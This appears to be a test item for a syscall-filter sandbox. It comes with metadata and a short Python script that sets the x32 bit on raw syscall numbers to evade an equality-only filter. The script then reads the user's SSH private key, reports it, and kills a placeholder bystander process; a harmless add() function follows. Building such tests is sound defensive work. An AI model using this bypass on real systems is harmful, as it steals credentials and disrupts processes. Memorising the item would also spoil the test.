#: title = "Calls with the x32 bit set in the number"
#: why = "A filter that compares numbers only for equality lets them through."
#: answer = "either"
#: ends = ["any"]
#: boasts = true
import ctypes
import os

if os.uname().machine == "x86_64":
    libc = ctypes.CDLL(None, use_errno=True)
    bit = 0x40000000
    fd = libc.syscall(bit | 2, b"@HOME@/.ssh/id_ed25519", 0)
    if fd >= 0:
        boast(os.read(fd, 4096).decode())
    libc.syscall(bit | 62, @BYSTANDER@, 9)


def add(a, b):
    return a + b
